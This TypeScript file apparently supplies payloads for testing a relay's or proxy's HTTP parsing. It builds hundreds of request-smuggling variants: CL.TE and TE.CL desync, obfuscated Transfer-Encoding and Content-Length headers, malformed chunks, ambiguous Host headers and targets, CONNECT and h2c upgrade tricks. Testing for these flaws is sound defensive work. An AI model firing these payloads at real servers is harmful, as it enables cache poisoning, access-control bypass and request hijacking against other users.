/** What a trick is made of. Paths that begin with `seen` are of requests for api.test, which is listed, and with `smuggled` for bad.test. */
interface Parts {
  readonly seen: string;
  readonly smuggled: string;
  readonly port: number;
  /** A request line and Host, as the relay's clients ask for api.test. */
  readonly api: (method?: string) => string;
  /** And for bad.test: a whole request. */
  readonly bad: string;
  /** The same as a front end is asked, to be hidden where it may be taken for a request. */
  readonly hidden: string;
}

/** The bytes that a client sends, as latin1. */
export type Trick = (parts: Parts) => string;

/** Fields that say where content ends, and content that holds a request for whoever reads them otherwise. LENGTH is the content's. */
const post =
  (fields: string, content: (hidden: string) => string): Trick =>
  ({ api, hidden }) => {
    const text = content(hidden);
    return `${api('POST')}${fields.replaceAll('LENGTH', String(text.length))}\r\n\r\n${text}`;
  };

/** In one chunk. */
const chunked = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
const CHUNKED = 'Transfer-Encoding: chunked';
/** To whoever goes by chunks it ends at once. */
const behindLastChunk = (hidden: string) => `0\r\n\r\n${hidden}`;

/** Transfer-Encoding as some read it and others do not (TE.TE). */
const CODINGS: readonly string[] = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:  chunked  ',
  'Transfer-Encoding: CHUNKED',
  'transfer-ENCODING: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked;a=b',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunke\xe4',
  'Transfer-Encoding: \x00chunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: \xa0chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\r\n\tchunked',
  'Transfer-Encoding: chunked\r\n x',
  'Transfer-Encoding:\n chunked',
  'Transfer-Encoding\r\n : chunked',
  'Transfer-Encoding\n: chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'X: x\nTransfer-Encoding: chunked',
  'X: x\rTransfer-Encoding: chunked',
  'X: x\r\n\rTransfer-Encoding: chunked',
  'X:\nTransfer-Encoding: chunked',
  'X\x00Transfer-Encoding: chunked',
  'X: x\x00\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding\x00: chunked',
  'Transfer-Encoding\x7f: chunked',
  'Transfer_Encoding: chunked',
  'Transfer Encoding: chunked',
  'Transfer-Encoding: chunked\nX: x',
  'Transfer-Encoding: chunked\rX: x',
  'Transfer-Encoding; chunked',
  'Transfer-Encoding',
  'Content-Encoding: chunked',
  'TE: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
  'Connection: close, transfer-encoding\r\nTransfer-Encoding: chunked',
];

/** Content-Length as some read it and others do not; with the content's true length, they say nothing that is to be had by it. */
const LENGTHS: readonly string[] = [
  'Content-Length: +LENGTH',
  'Content-Length: -LENGTH',
  'Content-Length: 0xLENGTH',
  'Content-Length: 0LENGTH',
  'Content-Length: LENGTH.0',
  'Content-Length: LENGTHe0',
  'Content-Length: "LENGTH"',
  'Content-Length: LENGTH, LENGTH',
  'Content-Length: 0, LENGTH',
  'Content-Length: LENGTH 0',
  'Content-Length: 0 LENGTH',
  'Content-Length: LENGTH\x00',
  'Content-Length: \x0bLENGTH',
  'Content-Length:',
  'Content-Length: x',
  'Content-Length: 18446744073709551616',
  'Content-Length: 99999999999999999999999999999999',
  'Content-Length: LENGTH\r\nContent-Length: LENGTH',
  'Content-Length: 0\r\nContent-Length: LENGTH',
  'Content-Length: LENGTH\r\nContent-Length: 0',
  'Content-Length: LENGTH\r\ncontent-length: 0',
  'Content-Length : LENGTH',
  'Content-Length\t: LENGTH',
  ' Content-Length: LENGTH',
  'Content-Length:\r\n LENGTH',
  'Content-Length:\n LENGTH',
  'Content-Length: LENGTH\r\n 0',
  'Content-Length\n: LENGTH',
  'X: x\nContent-Length: LENGTH',
  'X: x\rContent-Length: LENGTH',
  'Content-Length\x00: LENGTH',
  'Content_Length: LENGTH',
  'Connection: Content-Length\r\nContent-Length: LENGTH',
  'Connection: close, content-length\r\nContent-Length: LENGTH',
  'Expect: 100-continue\r\nContent-Length: LENGTH',
  'Expect: 100-continue\r\nContent-Length: 0',
  'Expect: y 100-continue\r\nContent-Length: LENGTH',
  'Expect: 100-continue, x\r\nContent-Length: LENGTH',
  'Expect:\r\n 100-continue\r\nContent-Length: LENGTH',
  'Expect: 100-continue\r\nExpect: x\r\nContent-Length: LENGTH',
  'Content-Length: 0',
  'X: x',
];

/** Chunks as some read them and others do not. */
const CHUNKS: Readonly<Record<string, (hidden: string) => string>> = {
  'a size in hex of C': (hidden) => `0x${chunked(hidden)}`,
  'a size with a plus': (hidden) => `+${chunked(hidden)}`,
  'a size with a minus': (hidden) => `-${chunked(hidden)}`,
  'a size with zeros': (hidden) => `0000000000000000000000${chunked(hidden)}`,
  'a size behind a space': (hidden) => ` ${chunked(hidden)}`,
  'a size before a space': (hidden) => `0 \r\n\r\n${hidden}`,
  'a size before NUL': (hidden) => `0\x00\r\n\r\n${hidden}`,
  'a size before _': (hidden) => `1_0\r\n${hidden}\r\n0\r\n\r\n`,
  'a size beyond 64 bits': (hidden) => `10000000000000000\r\n\r\n${hidden}`,
  'a size that wraps around': (hidden) => `ffffffffffffffff\r\n\r\n${hidden}`,
  'no size': (hidden) => `\r\n\r\n${hidden}`,
  'no hex in a size': (hidden) => `g\r\n\r\n${hidden}`,
  'a size that LF ends': (hidden) => `0\n\n${hidden}`,
  'a size that LF ends, and a line': (hidden) => `0\n\r\n${hidden}`,
  'a size that CR ends': (hidden) => `0\r\r${hidden}`,
  'a size that CR ends, and a letter': (hidden) => `2\rx\r\nab\r\n0\r\n\r\n${hidden}`,
  'LF behind a chunk': (hidden) => `1\r\na\n0\r\n\r\n${hidden}`,
  'nothing behind a chunk': (hidden) => `1\r\na0\r\n\r\n${hidden}`,
  'letters behind a chunk': (hidden) => `1\r\naxx0\r\n\r\n${hidden}`,
  'more than its size in a chunk': (hidden) => `1\r\nab\r\n0\r\n\r\n${hidden}`,
  'LF in an extension': (hidden) => `2;\n${hidden}\r\nab\r\n0\r\n\r\n`,
  'CR in an extension': (hidden) => `2;\r${hidden}\r\nab\r\n0\r\n\r\n`,
  'lines in an extension, in quotes': (hidden) => `2;a="\r\n${hidden}"\r\nab\r\n0\r\n\r\n`,
  'an extension of the last chunk': (hidden) => `0;a=b\r\n\r\n${hidden}`,
  'LF in an extension of the last chunk': (hidden) => `0;a\n\r\n${hidden}`,
  'LF behind the last chunk': (hidden) => `0\r\n\n${hidden}`,
  'no line behind the last chunk': (hidden) => `0\r\n${hidden}`,
  'Content-Length in the trailers': (hidden) => `0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'Transfer-Encoding in the trailers': (hidden) => `0\r\n${CHUNKED}\r\n\r\n${chunked(hidden)}`,
  'Host in the trailers': (hidden) => `0\r\nHost: bad.test\r\n\r\n${hidden}`,
  'LF in the trailers': (hidden) => `0\r\nX: x\n\n${hidden}`,
  'a space before a colon in the trailers': (hidden) => `0\r\nX : x\r\n\r\n${hidden}`,
  'a request in the trailers': (hidden) => `0\r\nX: ${hidden.trimEnd().replaceAll('\r\n', '\r\n ')}\r\n\r\n`,
};

/** Host as some read it and others do not; api.test is in each one. */
const HOSTS: readonly string[] = [
  'Host: api.test\r\nHost: bad.test',
  'Host: bad.test\r\nHost: api.test',
  'Host: api.test\r\nhost: bad.test',
  'Host: api.test\r\nHost : bad.test',
  'Host : bad.test\r\nHost: api.test',
  'Host: api.test\r\n Host: bad.test',
  ' Host: bad.test\r\nHost: api.test',
  '\tHost: bad.test\r\nHost: api.test',
  'Host: api.test\r\n bad.test',
  'Host:\r\n bad.test\r\nX: api.test',
  'Host: bad.test\r\n api.test',
  'Host: bad.test\nHost: api.test',
  'Host: api.test\nHost: bad.test',
  'Host: api.test\rHost: bad.test',
  'X: x\nHost: bad.test\r\nHost: api.test',
  'X: x\rHost: bad.test\r\nHost: api.test',
  'X:\x00\r\nHost: bad.test\r\nX: api.test',
  'Host\x00: bad.test\r\nHost: api.test',
  'Host: api.test\r\n\x00Host: bad.test',
  'Host\x01: bad.test\r\nHost: api.test',
  'Host;: bad.test\r\nHost: api.test',
  'Host: api.test\x00.bad.test',
  'Host: bad.test\x00api.test',
  'Host: api.test bad.test',
  'Host: bad.test api.test',
  'Host: api.test\tbad.test',
  'Host: api.test, bad.test',
  'Host: api.test;bad.test',
  'Host: api.test@bad.test',
  'Host: bad.test@api.test',
  'Host: api.test:80@bad.test',
  'Host: bad.test:80@api.test',
  'Host: api.test#bad.test',
  'Host: bad.test#api.test',
  'Host: bad.test?api.test',
  'Host: bad.test/api.test',
  'Host: bad.test/.api.test',
  'Host: bad.test\\api.test',
  'Host: bad.test%00api.test',
  'Host: bad.test%2eapi.test',
  'Host: bad.test:api.test',
  'Host: bad.test:80:api.test',
  'Host: api.test:bad.test',
  'Host: http://bad.test/api.test',
  'Host: [api.test]bad.test',
  'Host: [::1]bad.test.api.test',
  'Host: bad.test\xa0api.test',
  'Host: bad.test\xffapi.test',
  'Host: "bad.test"api.test',
  'Host: bad.test.api.test',
  'Host: api.test.bad.test',
  'Host: .api.test',
  'Connection: Host\r\nHost: bad.test\r\nX: api.test',
];

/** Request targets as some read them and others do not. */
const TARGETS: readonly string[] = [
  'http://bad.testPATH',
  'HTTP://bad.testPATH',
  'http://api.test@bad.testPATH',
  'http://api.test:80@bad.testPATH',
  'http://bad.test#@api.testPATH',
  'http://bad.test?@api.testPATH',
  'http://bad.test\\@api.testPATH',
  'http://bad.test\\.api.testPATH',
  'http://bad.test/@api.testPATH',
  'http://bad.test:80:80PATH',
  'http://bad.test%2f@api.testPATH',
  'http://bad.test%00.api.testPATH',
  'http://bad.test;api.testPATH',
  'http://bad.test,api.testPATH',
  'http:bad.testPATH',
  'http:/bad.testPATH',
  'http:///bad.testPATH',
  'https://bad.testPATH',
  'ftp://bad.testPATH',
  'ws://bad.testPATH',
  'x://bad.testPATH',
  'bad.testPATH',
  '@bad.testPATH',
  '@bad.test:80PATH',
  '\\\\bad.testPATH',
  '*bad.testPATH',
  'http://PATH',
  'http://@PATH',
  'http://:80PATH',
  'http://bad.test PATH',
  'http://bad.test\tPATH',
];

/** Whole openings. */
const OPENINGS: Readonly<Record<string, Trick>> = {
  'CONNECT to another': ({ port, hidden }) =>
    `CONNECT bad.test:${port} HTTP/1.1\r\nHost: api.test\r\n\r\n${hidden}`,
  'CONNECT to the listed one, and another within': ({ port, hidden }) =>
    `CONNECT api.test:${port} HTTP/1.1\r\nHost: api.test:${port}\r\n\r\n${hidden}`,
  'CONNECT with content': ({ port, hidden }) =>
    `CONNECT api.test:${port} HTTP/1.1\r\nHost: api.test:${port}\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'CONNECT with chunks': ({ port, hidden }) =>
    `CONNECT api.test:${port} HTTP/1.1\r\nHost: api.test:${port}\r\n${CHUNKED}\r\n\r\n${chunked(hidden)}`,
  'CONNECT with a path': ({ port, hidden }) =>
    `CONNECT api.test:${port}/@bad.test:${port} HTTP/1.1\r\nHost: api.test\r\n\r\n${hidden}`,
  'CONNECT with two ports': ({ port, hidden }) =>
    `CONNECT bad.test:${port}:${port} HTTP/1.1\r\nHost: api.test\r\n\r\n${hidden}`,
  'another pipelined': ({ api, bad }) => `${api('GET')}\r\n${bad}`,
  'another pipelined, as a front end reads it': ({ api, hidden }) => `${api('GET')}\r\n${hidden}`,
  'another pipelined behind content': ({ api, bad }) => `${api('POST')}Content-Length: 2\r\n\r\nok${bad}`,
  'another pipelined behind lines': ({ api, bad }) => `${api('GET')}\r\n\r\n\r\n\n${bad}`,
  'another pipelined behind garbage': ({ api, bad }) =>
    `${api('POST')}Content-Length: 2\r\n\r\nokgarbage\r\n\r\n${bad}`,
  'another pipelined behind a line of garbage': ({ api, bad }) => `${api('GET')}\r\ngarbage\r\n${bad}`,
  'another pipelined behind NULs': ({ api, bad }) => `${api('GET')}\r\n\x00\x00${bad}`,
  'another behind Connection: close': ({ api, bad }) => `${api('GET')}Connection: close\r\n\r\n${bad}`,
  'another behind HTTP/1.0': ({ api, bad }) => `${api('GET').replace('HTTP/1.1', 'HTTP/1.0')}\r\n${bad}`,
  'another behind HTTP/1.0 that is kept alive': ({ api, bad }) =>
    `${api('GET').replace('HTTP/1.1', 'HTTP/1.0')}Connection: keep-alive\r\n\r\n${bad}`,
  'HTTP/1.0 with chunks': ({ api, hidden }) =>
    `${api('POST').replace('HTTP/1.1', 'HTTP/1.0')}Connection: keep-alive\r\n${CHUNKED}\r\n\r\n${chunked(hidden)}`,
  'HTTP/1.0 with a length and chunks': ({ api, hidden }) =>
    `${api('POST').replace('HTTP/1.1', 'HTTP/1.0')}Connection: keep-alive\r\nContent-Length: 5\r\n${CHUNKED}\r\n\r\n0\r\n\r\n${hidden}`,
  'HTTP/0.9': ({ smuggled }) => `GET ${smuggled}\r\n`,
  'HTTP/0.9, absolute': ({ smuggled }) => `GET http://bad.test${smuggled}\r\n`,
  'HTTP/0.9 and a head': ({ smuggled }) => `GET ${smuggled}\r\nHost: bad.test\r\n\r\n`,
  'HTTP/0.9 behind a request': ({ api, smuggled }) => `${api('GET')}\r\nGET ${smuggled}\r\n`,
  'HTTP/1.0 without Host': ({ smuggled }) => `GET ${smuggled} HTTP/1.0\r\n\r\n`,
  'HTTP/1.1 without Host': ({ smuggled }) => `GET ${smuggled} HTTP/1.1\r\n\r\n`,
  'HTTP/1.2': ({ hidden }) => hidden.replace('HTTP/1.1', 'HTTP/1.2'),
  'HTTP/1.10': ({ hidden }) => hidden.replace('HTTP/1.1', 'HTTP/1.10'),
  'HTTP/01.1': ({ hidden }) => hidden.replace('HTTP/1.1', 'HTTP/01.1'),
  'http/1.1 in small letters': ({ hidden }) => hidden.replace('HTTP/1.1', 'http/1.1'),
  'two versions': ({ seen }) => `GET ${seen} HTTP/1.1 HTTP/1.1\r\nHost: api.test\r\n\r\n`,
  'a version as the target': ({ hidden }) => hidden.replace(/\/\S+ HTTP/, 'HTTP'),
  'HTTP/2 by prior knowledge': ({ hidden }) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`,
  'HTTP/2 behind a request': ({ api, hidden }) =>
    `${api('GET')}\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`,
  RTSP: ({ hidden }) => hidden.replace('HTTP/1.1', 'RTSP/1.0'),
  ICE: ({ hidden }) => hidden.replace('GET', 'SOURCE').replace('HTTP/1.1', 'ICE/1.0'),
  'an upgrade to h2c': ({ api, hidden }) =>
    `${api('GET')}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`,
  'an upgrade to h2c, not said to be of the hop': ({ api, hidden }) =>
    `${api('GET')}Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n${hidden}`,
  'an upgrade to h2c among others': ({ api, hidden }) =>
    `${api('GET')}Connection: Upgrade\r\nUpgrade: websocket, h2c\r\n\r\n${hidden}`,
  'an upgrade to TLS': ({ api, hidden }) =>
    `${api('GET')}Connection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n${hidden}`,
  'an upgrade that the front end ignores': ({ api, hidden }) =>
    `${api('GET')}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 1\r\n\r\n${hidden}`,
  'an upgrade with content': ({ api, hidden }) =>
    `${api('POST')}Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'an upgrade with chunks': ({ api, hidden }) =>
    `${api('POST')}Connection: Upgrade\r\nUpgrade: websocket\r\n${CHUNKED}\r\n\r\n${chunked(hidden)}`,
  'GET with content': ({ api, hidden }) => `${api('GET')}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'GET with chunks': ({ api, hidden }) => `${api('GET')}${CHUNKED}\r\n\r\n${chunked(hidden)}`,
  'GET with content whose length is said to be of the hop': ({ api, hidden }) =>
    `${api('GET')}Connection: Content-Length\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'GET with chunks that are said to be of the hop': ({ api, hidden }) =>
    `${api('GET')}Connection: Transfer-Encoding\r\n${CHUNKED}\r\n\r\n${chunked(hidden)}`,
  'an absolute target, and another Host': ({ seen, port }) =>
    `GET http://api.test:${port}${seen} HTTP/1.1\r\nHost: bad.test\r\n\r\n`,
  'an absolute target, and another Host that is said to be of the hop': ({ seen, port }) =>
    `GET http://api.test:${port}${seen} HTTP/1.1\r\nConnection: Host\r\nHost: bad.test\r\n\r\n`,
  'HEAD with content': ({ api, hidden }) => `${api('HEAD')}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'TRACE with content': ({ api, hidden }) =>
    `${api('TRACE')}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'OPTIONS with content': ({ api, hidden }) =>
    `${api('OPTIONS')}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'DELETE with content': ({ api, hidden }) =>
    `${api('DELETE')}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'a method of its own': ({ api, hidden }) =>
    `${api('SMUGGLE')}Content-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'a method with a request in it': ({ api, hidden }) => `${hidden.trimEnd()}\r\nX: ${api('GET')}\r\n`,
  'a space before the method': ({ hidden }) => ` ${hidden}`,
  'lines before the method': ({ bad }) => `\r\n\r\n${bad}`,
  'tabs in the request line': ({ hidden }) => hidden.replaceAll(/ (?=.*HTTP)|(?<=GET) /g, '\t'),
  'two spaces in the request line': ({ hidden }) => hidden.replace(' HTTP', '  HTTP'),
  'LF at the end of each line': ({ hidden }) => hidden.replaceAll('\r\n', '\n'),
  'LF at the end of each line, and api.test': ({ seen, hidden }) =>
    `GET ${seen} HTTP/1.1\nHost: api.test\n\n${hidden}`,
  'CR at the end of each line': ({ hidden }) => hidden.replaceAll('\r\n', '\r'),
  'LF at the end of the request line': ({ seen }) =>
    `GET ${seen} HTTP/1.1\nHost: bad.test\r\nHost: api.test\r\n\r\n`,
  'LF at the end of the head': ({ seen, hidden }) => `GET ${seen} HTTP/1.1\r\nHost: api.test\r\n\n${hidden}`,
  'a NUL in the request line': ({ hidden }) => hidden.replace(' HTTP', '\x00 HTTP'),
  'a folded request line': ({ hidden }) => hidden.replace(' HTTP', '\r\n HTTP'),
  'a request in the path': ({ seen }) =>
    `GET ${seen}%20HTTP/1.1%0d%0aHost:%20bad.test%0d%0a%0d%0a HTTP/1.1\r\nHost: api.test\r\n\r\n`,
  'LF in the path': ({ seen }) => `GET ${seen}\nHost: bad.test HTTP/1.1\r\nHost: api.test\r\n\r\n`,
  'LF in a value': ({ api, hidden }) => `${api('GET')}X: x\n\n${hidden}\r\n\r\n`,
  'CR in a value': ({ api, hidden }) => `${api('GET')}X: x\r\r${hidden}\r\n\r\n`,
  'a line without a colon': ({ api }) => `${api('GET')}GET / HTTP/1.1\r\nHost: bad.test\r\n\r\n`,
  'a line without a name': ({ api, hidden }) => `${api('GET')}: x\r\n\r\n${hidden}`,
  'more fields than are kept': ({ api, bad }) =>
    `${api('GET')}${'a: 1\r\n'.repeat(3_000)}${bad.slice(bad.indexOf('\n') + 1)}`,
  'fields too long': ({ api, bad }) =>
    `${api('GET')}a: ${'1'.repeat(70_000)}\r\n${bad.slice(bad.indexOf('\n') + 1)}`,
  'other names for the host': ({ api }) =>
    `${api('GET')}X-Forwarded-Host: bad.test\r\nX-Host: bad.test\r\nForwarded: host=bad.test\r\nX-Original-URL: http://bad.test/\r\n\r\n`,
};

const named = (kind: string, list: readonly string[], trick: (item: string) => Trick) =>
  list.map((item): readonly [string, Trick] => [`${kind} ${JSON.stringify(item)}`, trick(item)]);

/** Ways to have a front end read a request that whoever reads before it has not seen, of the literature on request smuggling. */
export const TRICKS: readonly (readonly [string, Trick])[] = [
  ['CL.TE', post(`Content-Length: LENGTH\r\n${CHUNKED}`, behindLastChunk)],
  ['TE.CL', post(`Content-Length: 4\r\n${CHUNKED}`, chunked)],
  ['TE.CL, the other way round', post(`${CHUNKED}\r\nContent-Length: 4`, chunked)],
  ['TE.0', post(CHUNKED, chunked)],
  ...named('CL.TE', CODINGS, (coding) => post(`Content-Length: LENGTH\r\n${coding}`, behindLastChunk)),
  ...named('TE.CL', CODINGS, (coding) => post(`Content-Length: 4\r\n${coding}`, chunked)),
  ...named('TE', CODINGS, (coding) => post(coding, chunked)),
  ...named('CL', LENGTHS, (length) => post(length, (hidden) => hidden)),
  ...Object.entries(CHUNKS).map(([what, chunks]) => [what, post(CHUNKED, chunks)] as const),
  ...named(
    'Host',
    HOSTS,
    (host) =>
      ({ seen }) =>
        `GET ${seen} HTTP/1.1\r\n${host}\r\n\r\n`,
  ),
  ...named(
    'target',
    TARGETS,
    (target) =>
      ({ smuggled }) =>
        `GET ${target.replace('PATH', smuggled)} HTTP/1.1\r\nHost: api.test\r\n\r\n`,
  ),
  ...Object.entries(OPENINGS),
];
